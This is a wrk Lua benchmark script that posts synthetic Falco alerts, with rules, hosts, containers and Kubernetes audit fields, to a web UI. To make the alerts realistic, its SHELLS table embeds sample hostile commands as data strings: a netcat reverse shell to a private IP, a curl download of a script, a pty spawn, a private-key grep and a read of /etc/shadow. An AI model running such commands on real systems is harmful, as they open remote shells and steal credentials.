-- wrk script for bench/webui.py: POSTs varied Falco alerts (about 40 rules from Falco's
-- default rule sets with their priorities, sources and tags, a few hundred hosts, skewed the
-- way real alert streams are: a few noisy rules and hosts make most of the volume; container,
-- image, user, process, file and Kubernetes audit fields), about 1 KB each like
-- bench/alert.json, and prints bench/run.py's summary line.
--
-- Alert number n (counted from BENCH_SEQ, interleaved over BENCH_THREADS wrk threads) happens
-- n × BENCH_STEP_NS nanoseconds after BENCH_BASE_S (epoch seconds), plus jitter, so a store
-- filled round after round holds events spread evenly over days, arriving in time order as
-- they would from Falco. (wrk's LuaJIT has doubles only: seconds and nanoseconds are kept
-- apart.)

local base_s = tonumber(os.getenv("BENCH_BASE_S") or "1715000000")
local step_ns = tonumber(os.getenv("BENCH_STEP_NS") or "1000000")
local seq0 = tonumber(os.getenv("BENCH_SEQ") or "0")
local seed = tonumber(os.getenv("BENCH_SEED") or "1")
local threads = tonumber(os.getenv("BENCH_THREADS") or "1")

-- name, priority, source, tags, weight, kind, description
local RULES = {
  {"Terminal shell in container", "Notice", "syscall", {"container", "maturity_stable", "mitre_execution", "shell", "T1059"}, 300, "proc", "A shell was spawned in a container with an attached terminal"},
  {"Read sensitive file untrusted", "Warning", "syscall", {"filesystem", "host", "container", "maturity_stable", "mitre_credential_access", "T1555"}, 180, "file", "Sensitive file opened for reading by non-trusted program"},
  {"Contact K8S API Server From Container", "Notice", "syscall", {"network", "k8s", "container", "maturity_stable", "mitre_discovery", "T1565"}, 150, "net", "Unexpected connection to K8s API Server from container"},
  {"Drop and execute new binary in container", "Critical", "syscall", {"maturity_stable", "container", "process", "mitre_persistence", "TA0003", "PCI_DSS_11.5.1"}, 40, "proc", "Executing binary not part of base image"},
  {"Write below etc", "Error", "syscall", {"filesystem", "host", "container", "maturity_sandbox", "mitre_persistence", "T1098"}, 60, "file", "File below /etc opened for writing"},
  {"Launch Package Management Process in Container", "Error", "syscall", {"container", "process", "software_mgmt", "maturity_incubating", "mitre_persistence", "T1505"}, 50, "proc", "Package management process launched in container"},
  {"Outbound Connection to C2 Servers", "Warning", "syscall", {"network", "maturity_sandbox", "mitre_command_and_control", "TA0011"}, 8, "net", "Outbound connection to C2 server"},
  {"Redirect STDOUT/STDIN to Network Connection in Container", "Notice", "syscall", {"container", "network", "process", "maturity_stable", "mitre_execution", "T1059"}, 12, "net", "Redirect stdout/stdin to network connection"},
  {"Run shell untrusted", "Notice", "syscall", {"host", "container", "process", "shell", "maturity_stable", "mitre_execution", "T1059.004"}, 70, "proc", "Shell spawned by untrusted binary"},
  {"Clear Log Activities", "Warning", "syscall", {"host", "container", "filesystem", "maturity_stable", "mitre_defense_evasion", "T1070", "NIST_800-53_AU-10"}, 10, "file", "Log files were tampered"},
  {"Create Symlink Over Sensitive Files", "Warning", "syscall", {"host", "container", "filesystem", "maturity_stable", "mitre_credential_access", "T1555"}, 6, "file", "Symlinks created over sensitive files"},
  {"Search Private Keys or Passwords", "Warning", "syscall", {"host", "container", "process", "filesystem", "maturity_stable", "mitre_credential_access", "T1552.001"}, 14, "proc", "Grep private keys or passwords activities found"},
  {"Netcat Remote Code Execution in Container", "Warning", "syscall", {"container", "network", "process", "maturity_stable", "mitre_execution", "T1059"}, 5, "proc", "Netcat runs inside container that allows remote code execution"},
  {"Packet socket created in container", "Notice", "syscall", {"container", "network", "maturity_stable", "mitre_credential_access", "T1557.002"}, 9, "net", "Packet socket was created in a container"},
  {"Modify binary dirs", "Error", "syscall", {"host", "container", "filesystem", "maturity_stable", "mitre_persistence", "T1222.002"}, 7, "file", "File below known binary directory renamed/removed"},
  {"Mkdir binary dirs", "Error", "syscall", {"host", "container", "filesystem", "maturity_stable", "mitre_persistence", "T1222.002"}, 4, "file", "Directory below known binary directory created"},
  {"Change thread namespace", "Notice", "syscall", {"host", "container", "process", "maturity_incubating", "mitre_privilege_escalation", "T1611"}, 25, "proc", "Namespace change (setns) by unexpected program"},
  {"Launch Privileged Container", "Informational", "syscall", {"container", "cis", "maturity_incubating", "mitre_execution", "T1610", "PCI_DSS_10.2.5"}, 20, "proc", "Privileged container started"},
  {"Launch Sensitive Mount Container", "Informational", "syscall", {"container", "cis", "maturity_incubating", "mitre_execution", "T1610"}, 10, "proc", "Container with sensitive mount started"},
  {"System user interactive", "Informational", "syscall", {"host", "container", "users", "maturity_stable", "mitre_execution", "T1059", "NIST_800-53_AC-2"}, 15, "proc", "System (e.g. non-login) user ran an interactive command"},
  {"Read ssh information", "Error", "syscall", {"host", "container", "filesystem", "maturity_sandbox", "mitre_collection", "T1005"}, 6, "file", "ssh-related file/directory read by non-ssh program"},
  {"Disallowed SSH Connection", "Notice", "syscall", {"host", "container", "network", "maturity_sandbox", "mitre_lateral_movement", "T1021.004"}, 8, "net", "Disallowed SSH Connection"},
  {"Unexpected UDP Traffic", "Notice", "syscall", {"host", "container", "network", "maturity_sandbox", "mitre_exfiltration", "TA0011"}, 18, "net", "Unexpected UDP Traffic Seen"},
  {"Delete or rename shell history", "Warning", "syscall", {"host", "container", "process", "filesystem", "maturity_stable", "mitre_defense_evasion", "T1070"}, 3, "file", "Shell history had been deleted or renamed"},
  {"Set Setuid or Setgid bit", "Notice", "syscall", {"host", "container", "process", "users", "maturity_sandbox", "mitre_privilege_escalation", "T1548.001"}, 5, "file", "Setuid or setgid bit is set via chmod"},
  {"Detect release_agent File Container Escapes", "Critical", "syscall", {"container", "maturity_stable", "mitre_privilege_escalation", "T1611"}, 1, "file", "Detect an attempt to exploit a container escape using release_agent file"},
  {"PTRACE attached to process", "Warning", "syscall", {"host", "container", "process", "maturity_stable", "mitre_privilege_escalation", "T1055.008"}, 4, "proc", "Detected ptrace PTRACE_ATTACH attempt"},
  {"Fileless execution via memfd_create", "Critical", "syscall", {"host", "container", "process", "maturity_stable", "mitre_defense_evasion", "T1620"}, 2, "proc", "Fileless execution via memfd_create"},
  {"Debugfs Launched in Privileged Container", "Warning", "syscall", {"container", "cis", "process", "maturity_stable", "mitre_privilege_escalation", "T1611"}, 1, "proc", "Debugfs launched started in a privileged container"},
  {"Linux Kernel Module Injection Detected", "Warning", "syscall", {"host", "container", "process", "maturity_stable", "mitre_persistence", "TA0003"}, 1, "proc", "Linux Kernel Module injection from container detected"},
  {"Create/Modify Configmap With Private Credentials", "Warning", "k8s_audit", {"k8s"}, 6, "k8s", "K8s configmap with private credential"},
  {"Create Privileged Pod", "Warning", "k8s_audit", {"k8s"}, 5, "k8s", "Pod started with privileged container"},
  {"Attach/Exec Pod", "Notice", "k8s_audit", {"k8s"}, 40, "k8s", "Attach/Exec to pod"},
  {"Create Disallowed Pod", "Warning", "k8s_audit", {"k8s"}, 4, "k8s", "Pod started with container not in allowed list"},
  {"ClusterRole With Wildcard Created", "Warning", "k8s_audit", {"k8s"}, 2, "k8s", "Created Role/ClusterRole with wildcard"},
  {"K8s Serviceaccount Created", "Informational", "k8s_audit", {"k8s"}, 6, "k8s", "K8s Serviceaccount Created"},
  {"Anonymous Request Allowed", "Warning", "k8s_audit", {"k8s"}, 3, "k8s", "Request by anonymous user allowed"},
  {"K8s Secret Deleted", "Informational", "k8s_audit", {"k8s"}, 3, "k8s", "K8s Secret Deleted"},
  {"Service Account Created in Kube Namespace", "Warning", "k8s_audit", {"k8s"}, 1, "k8s", "Service account created in kube namespace"},
  {"Falco internal: syscall event drop", "Debug", "internal", {}, 2, "internal", "Falco internal: syscall event drop"},
}

local IMAGES = {
  {"docker.io/library/nginx", "1.25.4", "nginx"}, {"docker.io/library/redis", "7.2.4", "redis"},
  {"docker.io/library/postgres", "16.2", "postgres"}, {"quay.io/prometheus/node-exporter", "v1.7.0", "node-exporter"},
  {"registry.k8s.io/kube-proxy", "v1.29.2", "kube-proxy"}, {"docker.io/bitnami/kafka", "3.6.1", "kafka"},
  {"ghcr.io/acme/payments-api", "2024.05.1", "payments-api"}, {"ghcr.io/acme/checkout", "1.18.0", "checkout"},
  {"ghcr.io/acme/frontend", "3.2.7", "frontend"}, {"docker.io/library/python", "3.12-slim", "worker"},
  {"docker.io/library/alpine", "3.19", "debug"}, {"docker.io/grafana/grafana", "10.4.1", "grafana"},
  {"docker.io/library/busybox", "1.36", "busybox"}, {"gcr.io/distroless/java17", "nonroot", "orders"},
  {"docker.io/falcosecurity/falco", "0.37.1", "falco"}, {"docker.io/library/mysql", "8.3", "mysql"},
}
local NAMESPACES = {"default", "web", "payments", "checkout", "kube-system", "monitoring", "data", "ci", "dev", "staging"}
local USERS = {"root", "www-data", "nobody", "postgres", "redis", "app", "ubuntu", "jenkins"}
local SHELLS = {{"bash", "/usr/bin/bash", "bash -il"}, {"sh", "/bin/sh", "sh -c id"}, {"zsh", "/usr/bin/zsh", "zsh"},
                {"apt-get", "/usr/bin/apt-get", "apt-get install -y curl"}, {"curl", "/usr/bin/curl", "curl -s http://10.0.3.7/x.sh"},
                {"python3", "/usr/bin/python3", "python3 -c import pty;pty.spawn('/bin/sh')"}, {"nc", "/usr/bin/nc", "nc -e /bin/sh 10.0.9.1 4444"},
                {"grep", "/usr/bin/grep", "grep -r BEGIN RSA PRIVATE /home"}, {"cat", "/usr/bin/cat", "cat /etc/shadow"}}
local PARENTS = {"runc", "containerd-shim", "bash", "sh", "sshd", "node", "java", "python3"}
local FILES = {"/etc/shadow", "/etc/passwd", "/etc/sudoers", "/root/.ssh/id_rsa", "/etc/pam.d/common-auth", "/var/log/auth.log",
               "/usr/bin/kubectl", "/etc/kubernetes/admin.conf", "/root/.bash_history", "/sys/fs/cgroup/release_agent", "/etc/ld.so.preload"}
local VERBS = {"create", "update", "patch", "delete", "get"}
local K8S_USERS = {"system:serviceaccount:ci:deployer", "alice@example.com", "bob@example.com", "system:anonymous", "minikube-user", "kubernetes-admin"}
local RESOURCES = {"pods", "configmaps", "secrets", "serviceaccounts", "clusterroles", "pods/exec"}

local HOSTS = {}
for i = 1, 300 do
  HOSTS[i] = string.format("ip-10-0-%d-%d.eu-west-1.compute.internal", 10 + (i * 7) % 40, 20 + (i * 13) % 200)
end

-- Cumulative weights for sampling: rules by their weight, hosts with a Zipf-like skew.
local function cumulative(n, weight)
  local c, total = {}, 0
  for i = 1, n do total = total + weight(i); c[i] = total end
  return c, total
end
local RULE_CUM, RULE_TOTAL = cumulative(#RULES, function(i) return RULES[i][5] end)
local HOST_CUM, HOST_TOTAL = cumulative(#HOSTS, function(i) return 1 / (i ^ 0.8) end)

local function pick(cum, total)
  local x = math.random() * total
  local lo, hi = 1, #cum
  while lo < hi do
    local mid = math.floor((lo + hi) / 2)
    if cum[mid] < x then lo = mid + 1 else hi = mid end
  end
  return lo
end

local function one(t) return t[math.random(#t)] end

local function hex(n)
  local s = {}
  for i = 1, n do s[i] = string.format("%x", math.random(0, 15)) end
  return table.concat(s)
end

local function pod_suffix()
  local chars = "bcdfghjklmnpqrstvwxz2456789"
  local s = {}
  for i = 1, 5 do local k = math.random(#chars); s[i] = chars:sub(k, k) end
  return hex(10) .. "-" .. table.concat(s)
end

local counter = 0
local next_thread = 0
thread_id = 0

function setup(thread)
  thread:set("thread_id", next_thread)
  next_thread = next_thread + 1
end

function init(args)
  math.randomseed(seed * 7919 + thread_id * 104729 + seq0)
end

-- With BENCH_DELAY_MS, each connection waits that long between requests (a paced load:
-- 16 connections × 1000 / (delay + latency) requests per second).
local delay_ms = tonumber(os.getenv("BENCH_DELAY_MS") or "0")
if delay_ms > 0 then
  function delay()
    return delay_ms
  end
end

wrk.method = "POST"
wrk.headers["Content-Type"] = "application/json"

local function q(s) return '"' .. s .. '"' end

function request()
  local n = seq0 + counter * threads + thread_id
  counter = counter + 1
  local offset = n * step_ns + math.random(0, math.max(0, step_ns - 1))
  local secs = base_s + math.floor(offset / 1000000000)
  local frac = offset % 1000000000
  local evt_time = string.format("%d%09d", secs, frac)
  local iso = os.date("!%Y-%m-%dT%H:%M:%S", secs) .. string.format(".%09dZ", frac)
  local clock = os.date("!%H:%M:%S", secs) .. string.format(".%09d", frac)

  local r = RULES[pick(RULE_CUM, RULE_TOTAL)]
  local name, prio, source, tags, kind, desc = r[1], r[2], r[3], r[4], r[6], r[7]
  local host = HOSTS[pick(HOST_CUM, HOST_TOTAL)]
  local fields, out = {}, {}
  local function f(k, v, quoted)
    fields[#fields + 1] = q(k) .. ":" .. (quoted == false and tostring(v) or q(v))
  end
  if kind == "k8s" then
    local user, verb, res, ns = one(K8S_USERS), one(VERBS), one(RESOURCES), one(NAMESPACES)
    local target = one(IMAGES)[3] .. "-" .. hex(5)
    out[#out + 1] = string.format("user=%s verb=%s resource=%s name=%s ns=%s", user, verb, res, target, ns)
    f("evt.time", evt_time, false)
    f("ka.user.name", user); f("ka.verb", verb); f("ka.target.resource", res)
    f("ka.target.name", target); f("ka.target.namespace", ns)
    f("ka.uri", string.format("/api/v1/namespaces/%s/%s/%s", ns, res, target))
    f("ka.response.code", "20" .. math.random(0, 1))
    host = "falco-k8saudit-" .. math.random(0, 2)
  elseif kind == "internal" then
    local drops = math.random(1, 5000)
    out[#out + 1] = string.format("n_drops=%d n_evts=%d ratio=%.4f", drops, drops * 100 + math.random(1, 99), 1 / math.random(50, 200))
    f("n_drops", drops, false); f("n_evts", drops * 100, false)
  else
    local img = one(IMAGES)
    local sh = one(SHELLS)
    local user, parent, ns = one(USERS), one(PARENTS), one(NAMESPACES)
    local cid = hex(12)
    local pod = img[3] .. "-" .. pod_suffix()
    local pid = math.random(300, 99999)
    local file = one(FILES)
    local evt = (kind == "file") and "openat" or ((kind == "net") and "connect" or "execve")
    local conn = string.format("10.0.%d.%d:%d->10.96.0.1:443", math.random(0, 255), math.random(1, 254), math.random(30000, 60000))
    out[#out + 1] = string.format("evt_type=%s user=%s user_uid=%d process=%s proc_exepath=%s parent=%s command=%s",
      evt, user, user == "root" and 0 or 1000, sh[1], sh[2], parent, sh[3])
    if kind == "file" then out[#out + 1] = "file=" .. file end
    if kind == "net" then out[#out + 1] = "connection=" .. conn end
    out[#out + 1] = string.format("container_id=%s container_name=%s image=%s:%s k8s_pod_name=%s k8s_ns_name=%s",
      cid, img[3], img[1], img[2], pod, ns)
    f("container.id", cid); f("container.image.repository", img[1]); f("container.image.tag", img[2])
    f("container.name", img[3]); f("evt.time", evt_time, false); f("evt.type", evt)
    if kind == "file" then f("fd.name", file) end
    if kind == "net" then f("fd.name", conn) end
    f("k8s.ns.name", ns); f("k8s.pod.name", pod); f("proc.cmdline", sh[3]); f("proc.exepath", sh[2])
    f("proc.name", sh[1]); f("proc.pid", pid, false); f("proc.pname", parent)
    f("user.name", user); f("user.uid", user == "root" and 0 or 1000, false)
  end
  local tag_json = {}
  for i, t in ipairs(tags) do tag_json[i] = q(t) end
  local body = "{" ..
    '"output":' .. q(clock .. ": " .. prio .. " " .. desc .. " (" .. table.concat(out, " ") .. ")") ..
    ',"priority":' .. q(prio) ..
    ',"rule":' .. q(name) ..
    ',"time":' .. q(iso) ..
    ',"output_fields":{' .. table.concat(fields, ",") .. "}" ..
    ',"source":' .. q(source) ..
    ',"tags":[' .. table.concat(tag_json, ",") .. "]" ..
    ',"hostname":' .. q(host) .. "}"
  return wrk.format(nil, nil, nil, body)
end

function done(summary, latency, requests)
  local e = summary.errors
  io.write(string.format(
    'WRKJSON {"requests":%d,"duration_us":%d,"bytes":%d,' ..
    '"errors":{"connect":%d,"read":%d,"write":%d,"status":%d,"timeout":%d},' ..
    '"latency_us":{"min":%d,"mean":%.1f,"max":%d,"p50":%d,"p90":%d,"p99":%d,"p999":%d}}\n',
    summary.requests, summary.duration, summary.bytes,
    e.connect, e.read, e.write, e.status, e.timeout,
    latency.min, latency.mean, latency.max,
    latency:percentile(50), latency:percentile(90),
    latency:percentile(99), latency:percentile(99.9)))
end
